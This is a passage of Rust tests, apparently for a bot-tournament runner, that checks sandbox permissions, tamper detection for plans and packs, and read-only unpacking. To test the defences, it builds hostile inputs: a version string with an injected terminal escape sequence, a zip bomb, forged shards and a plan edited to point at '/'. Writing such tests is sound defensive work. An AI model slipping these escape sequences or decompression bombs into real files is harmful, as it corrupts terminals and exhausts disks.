        let mut plan = race().plan().clone();
        change(&mut plan);
        let store = Archive::in_memory().unwrap().begin(&plan).unwrap();
        let error = PlanFile::new(&plan, &store, Path::new(".")).unwrap_err().to_string();
        assert!(error.contains(expected), "{error}");
    }
}

/// Returns a plan that asks for everything.
fn greedy_plan() -> PlanFile {
    planned(|plan| {
        plan.sandbox = Some(crate::process::Level::Limits);
        plan.gifts.network = true;
        plan.gifts.environment = vec!["KEY".to_owned()];
        plan.limits.processes = 100_000_000;
        plan.limits.line_bytes = Some(1 << 20);
    })
}

#[test]
fn a_plan_gets_no_more_than_the_host_allows() {
    use crate::process::{Gifts, Level, Limits, Wish};
    let refused = |allowed| match greedy_plan().allowing(allowed).launcher(nobody()).unwrap_err() {
        PartError::NotAllowed { flags, .. } => flags,
        other => other.to_string(),
    };
    let limits = Wish::Named(Level::Limits);
    let gifts = |network, environment: &[&str]| Gifts {
        network,
        environment: environment.iter().map(ToString::to_string).collect(),
    };
    let usual = Limits::default();
    let most = Limits { processes: 100_000_000, line_bytes: Some(1 << 20), ..usual };
    let raised = "--processes 100000000 --line-bytes 1048576";
    for (wish, given, most, flags) in [
        (Wish::Auto, gifts(false, &[]), most, "--sandbox limits --allow-network --pass-env KEY"),
        (Wish::Named(Level::Full), gifts(true, &["KEY"]), most, "--sandbox limits"),
        (limits, gifts(false, &["OTHER"]), most, "--allow-network --pass-env KEY"),
        (limits, gifts(true, &[]), most, "--pass-env KEY"),
        (limits, gifts(true, &["KEY"]), usual, raised),
        (limits, gifts(true, &["KEY"]), Limits { line_bytes: None, ..most }, "--line-bytes 1048576"),
    ] {
        assert_eq!(refused(Allowed::new(wish, given, most)), flags);
    }
    assert!(greedy_plan().check_allowed().is_err(), "nothing is allowed that nobody has named");
    greedy_plan().allowing(Allowed::new(limits, gifts(true, &["KEY"]), most)).check_allowed().unwrap();
    // A plan that names no level gets none that is lower.
    assert_eq!(race().launcher(nobody()).unwrap().level(), Level::Strict);
    // A module of WebAssembly is not confined, but it takes memory of the arena's own, and a store may be a stranger's as well.
    for is_hearsay in [false, true] {
        let mut alone = planned(|plan| plan.limits.wasm_memory_mb = 257);
        alone.is_hearsay = is_hearsay;
        let error = alone.launcher(nobody()).unwrap_err();
        assert!(error.allowing().is_some_and(|hint| hint.ends_with("add --wasm-memory-mb 257")), "{error}");
    }
}

/// A report would lose its column of luck.
#[test]
fn a_shard_of_a_solved_game_has_luck() {
    let (file, folder) = (race(), Folder::new());
    let mut luckless = played(&file, 0..4);
    luckless.rows.chunks.iter_mut().for_each(|chunk| chunk.luck.clear());
    let error = folder.merge(&[&luckless]).unwrap_err().to_string();
    assert!(error.contains("it has no luck, though the game is solved"), "{error}");
}

#[test]
fn versions_and_builds_that_are_mixed_are_named() {
    let (file, folder) = (race(), Folder::new());
    let (first, mut second) = (played(&file, 0..4), played(&file, 4..8));
    assert_eq!(folder.merge(&[&first]).unwrap().programs.len(), 1);
    second.origin.version = "9.9.9\u{1b}[2J".to_owned();
    let programs = folder.merge(&[&second]).unwrap().programs;
    assert_eq!(programs, merged(&folder.path("store")).unwrap().programs);
    assert!(programs.len() == 2 && programs.iter().any(|one| one.starts_with("necrodome 9.9.9[2J, build ")));
}

/// A forger may be first, and honest parts would then be those of another pack.
#[test]
fn whoever_names_the_pack_accepts_no_parts_of_another_one() {
    let folder = Folder::new();
    std::fs::write(folder.path("pack"), pack(&race(), 1 << 20, &mut |_| {}).unwrap().bytes).unwrap();
    let file = PlanFile::read(&folder.path("pack")).unwrap();
    let (mut forged, honest) = (played(&file, 0..2), played(&file, 2..4));
    forged.origin.bots = Some("f".repeat(32));
    let merge =
        |shard: &Shard| merge(&folder.path("store"), &[folder.keep(shard, "part")], Some(&file), &mut |_| {});
    let error = merge(&forged).unwrap_err();
    assert!(matches!(&error, PartError::OtherBots { before, .. } if before == NAMED_PACK), "{error}");
    merge(&honest).unwrap();
    assert!(matches!(folder.merge(&[&forged]).unwrap_err(), PartError::OtherBots { .. }));
}

/// The id of a tournament does not tell how programs are confined, but its report does.
#[test]
fn parts_that_were_confined_otherwise_do_not_mix() {
    let other = || planned(|plan| plan.sandbox = Some(crate::process::Level::Limits));
    for (first, second) in [(race(), other()), (other(), race())] {
        let folder = Folder::new();
        let [first, second] = [first, second].map(|file| {
            let all = Allowed::all_of(file.plan());
            file.allowing(all)
        });
        assert_eq!(first.id(), second.id());
        folder.merge(&[&played(&first, 0..2)]).unwrap();
        let error = folder.merge(&[&played(&second, 2..4)]).unwrap_err().to_string();
        assert!(error.contains("confines programs otherwise"), "{error}");
    }
}

#[test]
fn what_a_store_says_gives_nothing_away() {
    let folder = Folder::new();
    folder.merge(&[&played(&race(), 0..2)]).unwrap();
    let (store, _) = Archive::read(&folder.path("store")).unwrap().stores().unwrap().pop().unwrap();
    let sent = greedy_plan();
    let heard = PlanFile::of_store(sent.plan(), &store, None).unwrap().allowing(Allowed::all_of(sent.plan()));
    let error = heard.launcher(nobody()).unwrap_err().to_string();
    assert!(error.contains("name the plan that you wrote (--plan)"), "{error}");
    let mut plan = race().plan().clone();
    plan.sandbox = Some(crate::process::Level::Strict);
    plan.entries[0].bot = "cmd:touch".to_owned();
    let error = PlanFile::of_store(&plan, &store, None).unwrap_err().to_string();
    assert!(error.contains("a program without a fingerprint"), "{error}");
    // A command that names no file has a fingerprint that everybody knows.
    plan.entries[0].fingerprint = EntrySpec::parse("cmd:touch", Path::new(".")).unwrap().fingerprint();
    let error = PlanFile::of_store(&plan, &store, None).unwrap().entries().unwrap_err().to_string();
    assert!(error.contains("no file that could be checked"), "{error}");
}

#[test]
fn a_full_disk_is_no_damage() {
    let error = |number| {
        let error = std::io::Error::from_raw_os_error(number);
        pack::unwritten(Path::new("some.pack"), Path::new("/tmp/there"), Path::new("bot.py"), error)
            .to_string()
    };
    assert!(
        error(nix::libc::ENOSPC).starts_with("some.pack cannot be unpacked into /tmp/there: No space left")
    );
    assert!(error(nix::libc::ENOTDIR).starts_with("some.pack is damaged: bot.py: "));
}

/// No bot may read them, wherever they lie.
#[test]
fn all_that_has_the_secret_is_known_by_how_it_begins() {
    use crate::ours::is_ours;
    let (file, folder) = (race(), Folder::new());
    let plan = file.text(&folder.path("")).unwrap();
    std::fs::write(folder.path("plan"), plan).unwrap();
    std::fs::write(folder.path("pack"), pack(&file, 1 << 20, &mut |_| {}).unwrap().bytes).unwrap();
    let shard = played(&file, 0..2);
    folder.keep(&shard, "shard");
    folder.merge(&[&shard]).unwrap();
    let archive = Archive::open(&folder.path("open")).unwrap();
    archive.begin(file.plan()).unwrap();
    for name in ["plan", "pack", "shard", "store", "open", "open-wal", "open-shm"] {
        assert!(is_ours(&folder.path(name)), "{name}");
    }
}

#[test]
fn a_plan_is_read_as_it_was_written_and_not_when_it_was_edited() {
    let folder = Folder::new();
    let file = planned(|plan| plan.seed = necrodome_rules::chance::Seed::new(u128::MAX));
    let text = file.text(&folder.path("")).unwrap();
    let write = |text: &str| std::fs::write(folder.path("plan.toml"), text).unwrap();
    write(&text);
    let again = PlanFile::read(&folder.path("plan.toml")).unwrap();
    assert_eq!((again.plan(), again.id()), (file.plan(), file.id()));
    let own = env!("CARGO_PKG_VERSION");
    assert_eq!(again.made_by(), own);
    // The plan of another version is none that was edited.
    let (body, _) = text.rsplit_once("# checksum: ").unwrap();
    let body = body.replacen(&format!("made_by = \"{own}\""), "made_by = \"7.0.0\"", 1);
    write(&format!("{body}# checksum: {}\n", blake3::hash(body.as_bytes())));
    assert_eq!(PlanFile::read(&folder.path("plan.toml")).unwrap().made_by(), "7.0.0");
    for (from, to) in [
        ("blocks = 40", "blocks = 41"),
        ("cautious", "careful"),
        ("seats = 2", "seats = \"2\""),
        // What results do not follow from, but the safety of whoever plays it.
        ("folder = ", "folder = \"/\" # "),
        ("[plan]", "[plan]\nsandbox = \"limits\""),
    ] {
        write(&text.replacen(from, to, 1));
        let error = PlanFile::read(&folder.path("plan.toml")).unwrap_err();
        assert!(matches!(error, PartError::Edited { .. }), "{error}");
    }
    for text in ["", "a = 1", "[plan", "\0"] {
        write(text);
        assert!(matches!(PlanFile::read(&folder.path("plan.toml")).unwrap_err(), PartError::Foreign { .. }));
    }
}

/// What is unpacked is nobody's business but this user's, and cannot be changed, not by a bot either, and it has a hash: that of the files, however they were packed.
#[test]
fn a_pack_is_unpacked_to_be_read_only() {
    use std::os::unix::fs::PermissionsExt;
    use zip::write::SimpleFileOptions;
    let folder = Folder::new();
    let plan = race().text(Path::new(".")).unwrap();
    let files = [("plan.toml", plan.as_str(), 0o600), ("a/bot.py", "x", 0o644), ("a/run", "y", 0o755)];
    let packed = |files: &mut dyn Iterator<Item = &(&str, &str, u32)>| {
        let mut pack = zip::ZipWriter::new(std::fs::File::create(folder.path("some.pack")).unwrap());
        for (name, content, mode) in files {
            pack.start_file(*name, SimpleFileOptions::default().unix_permissions(*mode)).unwrap();
            std::io::Write::write_all(&mut pack, content.as_bytes()).unwrap();
        }
        pack.finish().unwrap();
        pack::unpack(&folder.path("some.pack")).unwrap()
    };
    let unpacked = packed(&mut files.iter());
    let mode =
        |name: &str| unpacked.folder.path().join(name).metadata().unwrap().permissions().mode() & 0o777;
    assert_eq!(["", "a", "a/bot.py", "a/run"].map(mode), [0o500, 0o555, 0o444, 0o555]);
    assert_eq!(packed(&mut files.iter().rev()).bots, unpacked.bots);
    let mut other = files;
    other[1].1 = "z";
    assert_ne!(packed(&mut other.iter()).bots, unpacked.bots);
    other = files;
    other[1].2 = 0o755;
    assert_ne!(packed(&mut other.iter()).bots, unpacked.bots);
}

/// A small zip file can have megabytes of zeros, and lie about its size.
#[test]
fn a_pack_that_would_fill_the_disk_is_refused() {
    use zip::write::SimpleFileOptions;
    let folder = Folder::new();
    let mut pack = zip::ZipWriter::new(std::fs::File::create(folder.path("bomb.pack")).unwrap());
    for name in ["some", "more"] {
        let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        pack.start_file(name, options).unwrap();
        std::io::Write::write_all(&mut pack, &vec![0; 600 << 10]).unwrap();
    }
    pack.finish().unwrap();
    let error = pack::unpack_within(&folder.path("bomb.pack"), 1 << 20).unwrap_err().to_string();
    assert!(error.contains("it has more than 1 MB"), "{error}");
    let error = pack::unpack_within(&folder.path("bomb.pack"), 2 << 20).unwrap_err().to_string();
    assert!(error.contains("is not a pack"), "{error}");
}
